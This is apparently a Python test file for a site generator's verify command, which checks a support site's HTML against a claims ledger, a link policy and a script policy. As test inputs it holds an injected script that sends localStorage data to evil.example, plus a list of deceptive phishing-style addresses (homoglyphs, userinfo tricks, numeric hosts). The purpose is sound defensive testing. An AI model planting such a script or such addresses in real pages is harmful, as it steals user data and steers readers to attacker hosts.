"""``python -m generator verify``: the built HTML is read back and held to the claims ledger."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from conftest import MINI, make_project


def _edit(page: Path, old: str, new: str) -> None:
    html = page.read_text(encoding="utf-8")
    assert old in html, f"{old!r} not in {page}"
    page.write_text(html.replace(old, new, 1), encoding="utf-8")


def _line_of(page: Path, text: str) -> int:
    return next(number for number, line in enumerate(page.read_text(encoding="utf-8").splitlines(), 1) if text in line)


def test_a_freshly_built_site_verifies(built_copy: Path, cli) -> None:
    run = cli("--root", built_copy, "verify")
    assert (run.code, run.out) == (0, "")
    pages = len(list((built_copy / "site").rglob("*.html")))
    assert re.fullmatch(rf"verified {pages} pages, \d+ links crawled and 4 claims in site", run.err.strip())


def test_a_figure_typed_into_a_page_fails(built_copy: Path, cli) -> None:
    page = built_copy / "site/playbooks/withdrawal-locked/index.html"
    _edit(page, "Your balance is safe.</p>", "Your balance is safe. 98% of cases clear within 3 days.</p>")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    line = _line_of(page, "98% of cases")
    column = page.read_text(encoding="utf-8").splitlines()[line - 1].index("98%") + 1
    assert run.code == 1
    assert run.lines == [
        (f"site/playbooks/withdrawal-locked/index.html:{line}:{column}: error: figure '98%' (percentage) is not inside a claim marker; "
        "the page was edited after the build, or a template prints a figure of its own"),
        (f"site/playbooks/withdrawal-locked/index.html:{line}:{column + 26}: error: figure '3 days' (time window) "
        "is not inside a claim marker; the page was edited after the build, or a template prints a figure of its own"),
    ]


def test_a_marker_that_differs_from_the_ledger_fails(built_copy: Path, cli) -> None:
    page = built_copy / "site/faq/index.html"
    _edit(page, '<span class="mfp-figure" data-claim="demo-withdrawal-lock">24 hours</span>',
          '<span class="mfp-figure" data-claim="demo-withdrawal-lock">12 hours</span>')  # fmt: skip
    run = cli("--root", built_copy, "verify", "--no-crawl")
    line = _line_of(page, "12 hours")
    column = page.read_text(encoding="utf-8").splitlines()[line - 1].index('<span class="mfp-figure"') + 1
    assert run.lines == [
        (f"site/faq/index.html:{line}:{column}: error: marker for claim 'demo-withdrawal-lock' shows '12 hours' "
        "but the ledger says '24 hours'")
    ]


def test_a_source_marker_that_hides_a_status_fails(built_copy: Path, cli) -> None:
    """The marker's words come from one place (generator.claims): "[4 unverified]" edited to "[4]" hides the warning."""
    page = built_copy / "site/faq/index.html"
    html = page.read_text(encoding="utf-8")
    label = re.search(r'data-claim-marker="transfer-irreversible"><a [^>]*>(\[\d+ unverified\])</a>', html)
    assert label is not None
    _edit(page, label.group(0), label.group(0).replace(label.group(1), label.group(1).replace(" unverified", "")))
    run = cli("--root", built_copy, "verify", "--no-crawl")
    line = _line_of(page, 'data-claim-marker="transfer-irreversible"')
    column = page.read_text(encoding="utf-8").splitlines()[line - 1].index('<sup class="mfp-cite mfp-cite--unverified"') + 1
    shown = label.group(1).replace(" unverified", "")
    assert (run.code, run.lines) == (1, [
        (f"site/faq/index.html:{line}:{column}: error: source marker of claim 'transfer-irreversible' shows '{shown}' "
        f"but the ledger makes it '{label.group(1)}'"),
    ])  # fmt: skip


def test_a_marker_for_an_unknown_claim_fails(built_copy: Path, cli) -> None:
    _edit(built_copy / "site/faq/index.html", 'data-claim="demo-withdrawal-lock">24 hours', 'data-claim="made-up">24 hours')
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1 and "marker names claim 'made-up', which is not in the ledger" in run.out


def test_a_stale_ledger_file_fails(built_copy: Path, cli) -> None:
    _edit_json(built_copy / "site/claims.json",
               lambda data: next(c for c in data["claims"] if c["id"] == "demo-withdrawal-lock").update(value="48 hours"))
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.lines == ["site/claims.json:1:1: error: claim 'demo-withdrawal-lock': value is '48 hours' but the ledger says '24 hours'"]


def test_the_sources_page_may_quote_its_evidence(built_copy: Path, cli) -> None:
    page = built_copy / "site/sources/index.html"
    assert "You cannot withdraw for 24 hours after changing your password." in page.read_text(encoding="utf-8")
    assert cli("--root", built_copy, "verify", "--no-crawl").code == 0


def test_a_missing_site_is_one_clear_error(tmp_path: Path, cli) -> None:
    project = make_project(tmp_path / "project", MINI / "content")
    run = cli("--root", project, "verify", "--no-crawl")
    assert run.code == 1
    assert run.lines == ["site:0:0: error: no HTML pages found; build the site first (python -m generator build)"]


@pytest.mark.parametrize(
    ("element", "message"),
    [
        ('<a href="https://bit.ly/okx-bonus">bonus</a>', "a href=https://bit.ly/okx-bonus: bit.ly is a URL shortener"),
        ('<a href="http://www.okx.com/help">help</a>',
         "a href=http://www.okx.com/help: http: is not allowed; write the full https:// address"),
        ('<a href="https://demo-exchange-support.com/">help</a>',
         "a href=https://demo-exchange-support.com/: demo-exchange-support.com is a hyphenated variant of Demo Exchange's name"),
        ('<a href="https://www.okx.com/help?utm_source=seed">help</a>',
         "a href=https://www.okx.com/help?utm_source=seed: parameter 'utm_source' is a tracking"),
        ('<script src="https://cdn.example.com/track.js"></script>',
         "script src=https://cdn.example.com/track.js: the page would load this from another origin"),
        ('<img src="https://pixel.example.com/1x1.gif">',
         "img src=https://pixel.example.com/1x1.gif: the page would load this from another origin"),
    ],
    ids=["shortener", "http", "look-alike", "tracking", "third-party-script", "tracking-pixel"],
)
def test_an_address_added_to_a_page_is_held_to_the_link_policy(built_copy: Path, cli, element: str, message: str) -> None:
    page = built_copy / "site/faq/index.html"
    _edit(page, "</article>", f"{element}</article>")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    [line] = run.lines
    assert line.startswith(f"site/faq/index.html:{_line_of(page, element)}:") and message in line, line


def test_a_broken_link_and_a_missing_anchor_are_named_once(built_copy: Path, cli) -> None:
    """The file check and linkchecker's crawl both find them; the reader gets one message per link."""
    page = built_copy / "site/faq/index.html"
    _edit(page, "</article>", '<a href="../playbooks/gone/">gone</a><a href="../sources/#claim-nothing">x</a></article>')
    run = cli("--root", built_copy, "verify")
    line = _line_of(page, "playbooks/gone/")
    text = page.read_text(encoding="utf-8").splitlines()[line - 1]
    gone, anchor = text.index('<a href="../playbooks/gone/') + 1, text.index('<a href="../sources/#claim-nothing') + 1
    assert run.code == 1
    assert run.lines == [
        f"site/faq/index.html:{line}:{gone}: error: a href=../playbooks/gone/: no such page or file in the site",
        f"site/faq/index.html:{line}:{anchor}: error: a href=../sources/#claim-nothing: sources/index.html has no anchor '#claim-nothing'",
    ]


def test_links_crawls_a_built_site_and_names_a_missing_one(built_copy: Path, tmp_path: Path, cli) -> None:
    run = cli("--root", built_copy, "links")
    assert run.code == 0 and re.fullmatch(r"\d+ internal links crawled", run.err.strip()), run.err
    missing = cli("--root", built_copy, "links", tmp_path / "nowhere")
    assert missing.code == 1 and missing.lines[0].endswith("error: no HTML pages found; build the site first (python -m generator build)")


def test_a_broken_link_or_anchor_fails_without_the_crawl(built_copy: Path, cli) -> None:
    page = built_copy / "site/faq/index.html"
    _edit(page, 'href="../playbooks/withdrawal-locked/"', 'href="../playbooks/withdrawal-lockd/"')
    target = built_copy / "site/playbooks/account-takeover/index.html"
    anchor = re.search(r'<h2 id="([^"]+)"', target.read_text(encoding="utf-8"))
    assert anchor is not None
    _edit(target, f'<h2 id="{anchor.group(1)}"', '<h2 id="renamed"')
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    assert any("a href=../playbooks/withdrawal-lockd/: no such page or file in the site" in line for line in run.lines), run.lines
    assert any(f"playbooks/account-takeover/index.html has no anchor '#{anchor.group(1)}'" in line for line in run.lines), run.lines


def test_the_not_found_page_links_from_the_site_address(built_copy: Path, cli) -> None:
    page = built_copy / "site/404.html"
    html = page.read_text(encoding="utf-8")
    assert re.search(r'href="/[^"/]+/faq/"', html), "the 404 page links from the site's path"
    page.write_text(html.replace('/faq/"', '/faq-gone/"', 1), encoding="utf-8")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1 and any("404.html" in line and "faq-gone/: no such page" in line for line in run.lines), run.lines


def test_a_checklist_version_that_reads_like_a_figure_passes(built_copy: Path, cli) -> None:
    """A version is a fingerprint such as 1876611d, not "1876611 days": it is a fact about the site."""
    page = built_copy / "site/checklists/basics/index.html"
    html = page.read_text(encoding="utf-8")
    version = re.search(r'<span class="mfp-site-fact">version ([0-9a-f]{8})</span>', html)
    assert version is not None
    page.write_text(html.replace(f"version {version.group(1)}<", "version 1876611d<"), encoding="utf-8")
    assert cli("--root", built_copy, "verify", "--no-crawl").code == 0


CONFUSABLE_HREFS = [
    ("https://evil.example\\@help.demo-exchange.com/", "so it opens evil.example, not help.demo-exchange.com"),
    ("https://help.demo-exchange.com@evil.example/", "is a user name, not the site: the browser opens evil.example"),
    ("https:///bit.ly/x", "'https:' is followed by 3 slashes, not two"),
    ("https:\\\\bit.ly\\x", "the browser reads each '\\' before the query as '/', so it opens bit.ly"),
    ("https://%64emo-exchange-login.com/", "is written with %-escapes, which the browser decodes, so it opens demo-exchange-login.com"),
    ("https://0x7f.1/", "the browser reads the host as the numeric address 127.0.0.1"),
    ("https://2130706433/", "the browser reads the host as the numeric address 127.0.0.1"),
    ("https://[::1]/", "the browser reads the host as the numeric address [::1]"),
    ("https://help.demo-exchange.com:8443/", "port 8443 is not the standard https port"),
    ("https://help.demo-exchange.com./", "the host 'help.demo-exchange.com.' ends with a dot"),
    ("https://demo-ex&#10;change-login.com/", "it holds a line break, which no reader sees"),
    ("ht&#9;tps://evil.example/", "it holds a tab, which no reader sees"),
    ("https://dеmo-exchange.com/", "uses non-Latin or encoded letters and reads as demo-exchange.com"),
    ("https://demo-exchnage.com/", "is one typing slip from demo-exchange.com (two letters swapped)"),
    ("\\\\evil.example/help", "an address without https:// is not allowed (from a page, the browser opens evil.example)"),
    ("/\\evil.example/help", "an address without https:// is not allowed (from a page, the browser opens evil.example)"),
]  # fmt: skip


def test_a_browser_confusable_address_in_a_page_fails_at_its_tag(built_copy: Path, cli) -> None:
    """verify reads each href as the browser does: the host judged is the host the browser would open."""
    page = built_copy / "site/faq/index.html"
    elements = [f'<a href="{href}">help</a>' for href, _ in CONFUSABLE_HREFS]
    _edit(page, "</article>", "\n".join(elements) + "</article>")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    html = page.read_text(encoding="utf-8")
    places = {}
    for element, (_, message) in zip(elements, CONFUSABLE_HREFS, strict=True):
        offset = html.index(element)
        places[f"site/faq/index.html:{html.count(chr(10), 0, offset) + 1}:{offset - html.rfind(chr(10), 0, offset)}:"] = message
    for place, message in places.items():
        assert any(found.startswith(f"{place} error: a href=") and message in found for found in run.lines), (message, run.lines)
    assert all(found.split(" ", 1)[0] in places for found in run.lines), run.lines


def test_an_image_a_browser_loads_from_another_host_fails(built_copy: Path, cli) -> None:
    page = built_copy / "site/faq/index.html"
    _edit(page, "</article>", '<img src="\\\\pixel.example/1x1.gif" alt=""></article>')
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    [line] = run.lines
    assert "img src=\\\\pixel.example/1x1.gif: the page would load this from another origin" in line, line


def test_legitimate_addresses_in_a_page_still_verify(built_copy: Path, cli) -> None:
    page = built_copy / "site/faq/index.html"
    hrefs = ["HTTPS://WWW.IC3.GOV/", "https://pages.nist.gov/800-63-4/sp800-63b.html?x=1#y", "https://example.org/files/My%20Guide.pdf",
             "https://help.demo-exchange.com:443/", "https://medium.com/@demo/post"]  # fmt: skip
    _edit(page, "</article>", "".join(f'<a href="{href}">x</a>' for href in hrefs) + "</article>")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 0, run.lines


@pytest.mark.parametrize(
    ("old", "new", "message"),
    [
        ("</h1>", "</h1><script>fetch('https://evil.example/'+localStorage.x)</script>",
         "an inline script that is none of Material's: <script>fetch('https://evil.example/'+localStorage.x)</script>"),
        ("script-src 'self'", "script-src 'self' 'unsafe-inline'", "the page's policy allows scripts it should not: 'unsafe-inline'"),
        ("script-src 'self'", "script-src 'self' 'sha256-AAAA'", "the page's policy allows scripts it should not: 'sha256-AAAA'"),
    ],
    ids=["inline-script", "unsafe-inline", "unknown-hash"],
)
def test_a_page_with_a_script_its_policy_does_not_know_fails(built_copy: Path, cli, old: str, new: str, message: str) -> None:
    page = built_copy / "site/playbooks/withdrawal-locked/index.html"
    _edit(page, old, new)
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    assert any(line.startswith("site/playbooks/withdrawal-locked/index.html:") and message in line for line in run.lines), run.out


def _in_element(page: Path, pattern: str, old: str, new: str) -> None:
    """Replace ``old`` by ``new`` only inside the first match of ``pattern`` (an element of the page)."""
    html = page.read_text(encoding="utf-8")
    element = re.search(pattern, html, re.DOTALL)
    assert element and old in element.group(0), pattern
    page.write_text(html[: element.start()] + element.group(0).replace(old, new) + html[element.end() :], encoding="utf-8")


@pytest.mark.parametrize(
    ("file", "pattern", "what"),
    [
        ("playbooks/withdrawal-locked/index.html", r'<meta name="description"[^>]*>', "meta description"),
        ("playbooks/withdrawal-locked/index.html", r'<script type="application/ld\+json">.*?</script>', "schema.org data (JSON-LD)"),
        ("faq/index.html", r'<script type="application/ld\+json">.*?</script>', "schema.org data (JSON-LD)"),
        ("export.json", r'"summary": "[^"]*"', "playbook 'withdrawal-locked'"),
    ],
    ids=["meta-description", "json-ld-howto", "json-ld-faq", "export-playbook"],
)
def test_a_figure_changed_in_what_machines_read_fails(built_copy: Path, cli, file: str, pattern: str, what: str) -> None:
    """Search engines, link previews and data users read these, not the page text: they must say what the ledger says."""
    _in_element(built_copy / "site" / file, pattern, "24 hours", "12 hours")
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    expected = f"{what} does not show claim 'demo-withdrawal-lock' as the ledger says ('24 hours')"
    assert run.lines and all(line.startswith(f"site/{file}:") and expected in line for line in run.lines), run.out


def _edit_json(path: Path, change: Callable[[dict[str, Any]], object]) -> None:
    data = json.loads(path.read_text(encoding="utf-8"))
    change(data)
    path.write_text(json.dumps(data), encoding="utf-8")


def test_a_claim_value_changed_in_the_export_fails(built_copy: Path, cli) -> None:
    """The export's claims as claims.json's (test_a_stale_ledger_file_fails)."""
    _edit_json(built_copy / "site/export.json",
               lambda data: next(c for c in data["claims"] if c["id"] == "demo-withdrawal-lock").update(value="12 hours"))
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1
    assert run.lines == ["site/export.json:1:1: error: claim 'demo-withdrawal-lock': value is '12 hours' but the ledger says '24 hours'"]


def test_a_data_file_that_breaks_its_published_schema_fails(built_copy: Path, cli) -> None:
    _edit_json(built_copy / "site/export.json", lambda data: data["playbooks"][0].update(severity="apocalyptic"))
    run = cli("--root", built_copy, "verify", "--no-crawl")
    assert run.code == 1 and any("export.json does not match its published schema export.schema.json at playbooks/0/severity" in line
                                 for line in run.lines), run.out  # fmt: skip


def test_the_classes_verify_reads_share_its_prefix() -> None:
    """The page reader splits an element's classes only when they hold the prefix all of these share."""
    from generator import verify
    from generator.claims import FIGURE_CLASS, MARKER_CLASS

    assert all(name.startswith(verify._OUR_CLASS_PREFIX) for name in (*verify.SKIPPED_CLASSES, FIGURE_CLASS, MARKER_CLASS))


def test_a_client_that_hangs_up_leaves_no_traceback(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """linkchecker or a browser may close a connection while the local server still writes to it (seen in
    `verify`: "Exception occurred during processing of request … Broken pipe" before its one line)."""
    import socket
    import struct
    import threading
    import time
    from urllib.parse import urlsplit

    from generator.linkcheck import serve_site

    (tmp_path / "big.bin").write_bytes(b"x" * 20_000_000)  # more than the sockets buffer: the server is still writing
    before = threading.active_count()
    with serve_site(tmp_path) as base:
        address = urlsplit(base)
        with socket.create_connection((address.hostname, address.port)) as client:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))  # close with a reset
            client.sendall(b"GET /big.bin HTTP/1.1\r\nHost: localhost\r\n\r\n")
            client.recv(1000)
        deadline = time.monotonic() + 10
        while threading.active_count() > before + 1 and time.monotonic() < deadline:  # the request's thread has ended
            time.sleep(0.05)
    assert capsys.readouterr().err == ""


@pytest.mark.parametrize("start", ["fork", "spawn"])
def test_pages_read_by_several_processes_give_the_same_verdict(built_copy: Path, cli, monkeypatch: pytest.MonkeyPatch,
                                                               start: str) -> None:  # fmt: skip
    """A large site is read by one process per core (verify took 2.3 times a bare HTMLParser pass at 1,000 playbooks):
    whichever process reads a page, every problem is found once and told the same way. Processes are forked when
    verify runs no other thread (the command line), else started afresh (a test process with threads)."""
    from concurrent.futures import ProcessPoolExecutor

    import generator.verify

    playbook = built_copy / "site/playbooks/withdrawal-locked/index.html"
    _edit(playbook, "Your balance is safe.</p>", "Your balance is safe. 98% of cases.</p>")
    _edit(built_copy / "site/faq/index.html", '<span class="mfp-figure" data-claim="demo-withdrawal-lock">24 hours</span>',
          '<span class="mfp-figure" data-claim="demo-withdrawal-lock">12 hours</span>')  # fmt: skip
    _edit(built_copy / "site/index.html", "</article>", '<a href="playbooks/gone/">gone</a></article>')
    one = cli("--root", built_copy, "verify", "--no-crawl", "--jobs", "1")
    assert one.code == 1 and len(one.lines) == 3, one.lines
    monkeypatch.setattr(generator.verify, "_start_method", lambda: start)
    shares: list[int] = []
    submit = ProcessPoolExecutor.submit
    monkeypatch.setattr(ProcessPoolExecutor, "submit", lambda pool, job, *args: shares.append(len(args[1])) or submit(pool, job, *args))
    three = cli("--root", built_copy, "verify", "--no-crawl", "--jobs", "3")
    assert (three.code, three.lines) == (one.code, one.lines)
    pages = len(list((built_copy / "site").rglob("*.html")))
    assert len(shares) == 2 and pages / 3 - 1 <= min(shares) <= max(shares) <= pages / 3 + 1, (shares, pages)  # the caller reads a third


def test_verify_takes_a_number_of_processes(built_copy: Path, cli) -> None:
    assert cli("--root", built_copy, "verify", "--no-crawl", "--jobs", "2").code == 0
    refused = cli("--root", built_copy, "verify", "--jobs", "0")
    assert refused.code == 2 and "'0' is not a number of processes (1 or more)" in refused.err
